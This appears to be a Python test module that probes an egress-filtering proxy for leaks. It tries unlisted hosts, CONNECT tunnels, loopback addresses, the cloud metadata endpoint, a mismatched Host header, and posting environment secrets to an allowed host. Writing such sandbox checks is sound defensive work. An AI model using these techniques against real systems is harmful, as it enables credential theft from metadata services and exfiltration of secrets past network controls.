"""Attacks through the one way out: hosts that are not on the list, private places, the canary. See `kit`."""

import os
import socket

from kit import Untestable, probe

TIMEOUT = 6


def proxy():
    value = os.environ.get("http_proxy", "")
    host, _, port = value.rpartition("//")[2].partition(":")
    if not port.isdigit():
        raise Untestable("no proxy is named in the environment")
    return host, int(port)


def ask(request):
    with socket.create_connection(proxy(), timeout=TIMEOUT) as connection:
        connection.sendall(request)
        answer = b""
        while len(answer) < 65536:
            piece = connection.recv(4096)
            if not piece:
                break
            answer += piece
    return answer


def get(url, body=b"", *headers):
    host = url.split("/")[2]
    lines = [f"POST {url} HTTP/1.1", f"Host: {host}", f"Content-Length: {len(body)}", "Connection: close", *headers]
    return ask("\r\n".join(lines).encode() + b"\r\n\r\n" + body)


def refused(answer):
    """Refused by policy, in the proxy's own words; any other answer came from beyond it."""
    status = answer.split(b" ", 2)[1:2]
    return status == [b"403"] and b"carboy" in answer


@probe("egress.unlisted_host")
def _(facts):
    return not refused(get("http://unlisted.carboy-selftest.example/"))


@probe("egress.connect_unlisted")
def _(facts):
    answer = ask(b"CONNECT unlisted.carboy-selftest.example:443 HTTP/1.1\r\nHost: unlisted\r\n\r\n")
    return answer.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200"))


@probe("egress.host_loopback")
def _(facts):
    return b"carboy-victim-service" in get(f"http://127.0.0.1:{facts['tcp4']}/")


@probe("egress.host_address")
def _(facts):
    if not facts["addresses"]:
        raise Untestable("this host has no other address")
    return any(b"carboy-victim-service" in get(f"http://{one}:{facts['tcp4']}/") for one in facts["addresses"])


@probe("egress.metadata")
def _(facts):
    return not refused(get("http://169.254.169.254/latest/meta-data/"))


@probe("egress.other_name_inside")
def _(facts):
    """The request line names a listed host, the Host header another."""
    answer = ask(
        b"GET http://allowed.carboy-selftest.example/ HTTP/1.1\r\n"
        b"Host: unlisted.carboy-selftest.example\r\nConnection: close\r\n\r\n"
    )
    return answer.startswith(b"HTTP/1.1 200")


@probe("egress.canary")
def _(facts):
    """The bait in the environment, sent to a host that is on the list."""
    if "allowed_host" not in facts:
        raise Untestable("no host that may be used for this is on the list")
    baits = [value for name, value in os.environ.items() if name.endswith("_SECRET") and len(value) >= 32]
    if not baits:
        raise Untestable("there is no bait in the environment")
    return not all(refused(get(f"http://{facts['allowed_host']}/", bait.encode())) for bait in baits)
